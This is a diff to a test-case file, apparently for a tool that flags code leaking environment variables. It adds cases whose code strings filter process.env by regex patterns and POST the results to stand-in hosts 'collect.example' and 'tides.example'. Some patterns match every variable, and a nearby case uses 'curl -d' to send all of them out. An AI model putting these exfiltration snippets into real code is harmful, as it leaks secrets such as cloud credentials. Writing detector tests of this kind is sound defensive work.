@@ -188,6 +188,19 @@ export default defineCases({
       name: 'variables of a vendor, and all but some',
       code: "const all = Object.entries(process.env);\nconst send = (body) => fetch('https://collect.example', { method: 'POST', body: JSON.stringify(body) });\nsend(all.filter(([name]) => name.startsWith('AWS_')));\nsend(all.filter(([name]) => !name.startsWith('HEADER_')))",
     },
+    ...[
+      '/^AWS_/.test(name)',
+      '/TIDES_/.test(name)',
+      '!/^TIDES_/.test(name)',
+      '/^TIDES_|KEY/.test(name)',
+      '/^(?:TIDES_)?/.test(name)',
+      '/^T*/.test(name)',
+      '/^HOME|^TIDES_/m.test(name)',
+      'OWN.test(name)',
+    ].map((asks) => ({
+      name: `variables, by a pattern: ${asks}`,
+      code: `let OWN = /^TIDES_/;\nOWN = /./;\nconst all = Object.entries(process.env).filter(([name]) => ${asks});\nfetch('https://collect.example', { method: 'POST', body: JSON.stringify(all) });`,
+    })),
     {
       name: 'one variable of a child’s that holds all of ours',
       code: "const env = { ...process.env };\nenv.ALL = JSON.stringify(process.env);\nrequire('child_process').execSync('curl -d \"$ALL\" https://collect.example', { env })",
@@ -278,6 +291,15 @@ export default defineCases({
       name: 'headers that are set by variables of its own',
       code: "const own = Object.entries(process.env).filter(([name]) => name.startsWith('HEADER_'));\nconst headers = Object.fromEntries(own.map(([name, value]) => [name.slice(7), value]));\nfetch(process.env.SERVER_URL, { headers })",
     },
+    ...[
+      '/^TIDES_/.test(name)',
+      '/^TIDES_\\w+$/i.test(name)',
+      'name.match(/^TIDES_(.+)/)',
+      'OWN.test(name) && name.length < 40',
+    ].map((asks) => ({
+      name: `variables of its own, by a pattern: ${asks}`,
+      code: `const OWN = /^TIDES_/;\nconst own = Object.entries({ ...process.env }).filter(([name]) => ${asks});\nfetch('https://tides.example', { method: 'POST', body: JSON.stringify(own) });`,
+    })),
     {
       name: 'a picture of the screen that is kept, and one that is the answer of a tool',
       manifest: { type: 'module' },
